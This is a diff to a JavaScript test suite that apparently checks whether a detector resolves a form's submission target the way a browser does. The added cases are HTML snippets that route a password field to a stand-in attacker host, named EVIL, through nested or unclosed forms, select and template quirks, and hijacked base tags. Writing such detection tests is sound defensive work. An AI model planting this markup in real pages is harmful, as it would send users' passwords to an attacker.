@@ -102,7 +102,17 @@ describe("where a form sends is resolved as a browser would", () => {
     ["a button outside by form=", `<form id="f">${PASSWORD}</form><button form="f" formaction="${EVIL}">Go</button>`],
     ["a form without end", `<form action="${EVIL}"><p>${PASSWORD}`],
     ["a form across elements that close it not", `<div><form action="${EVIL}"></div><table><tr><td>${PASSWORD}`],
-    ["a form in a form", `<form action="/ok"><form action="${EVIL}">${PASSWORD}`],
+    ["a form in a form that has ended", `<form action="/ok"><div></form><form action="${EVIL}">${PASSWORD}`],
+    [
+      "a form behind one that a select swallows",
+      `<select><form action="/ok"></select><form action="${EVIL}">${PASSWORD}`,
+    ],
+    ["a form in a form of a template", `<template><form action="/ok"><form action="${EVIL}">${PASSWORD}</template>`],
+    ["the first of two bases", `<base href="${EVIL}"><base href="/ok/">${login("in.php")}`],
+    [
+      "a base that a table puts before itself",
+      `<table><td><base href="/"></td><base href="${EVIL}"></table>${login("x")}`,
+    ],
     ["a form after one that never ended", `<form action="${EVIL}"><form action="/ok">${PASSWORD}</form>`],
     [
       "a template's end tag for the form outside",
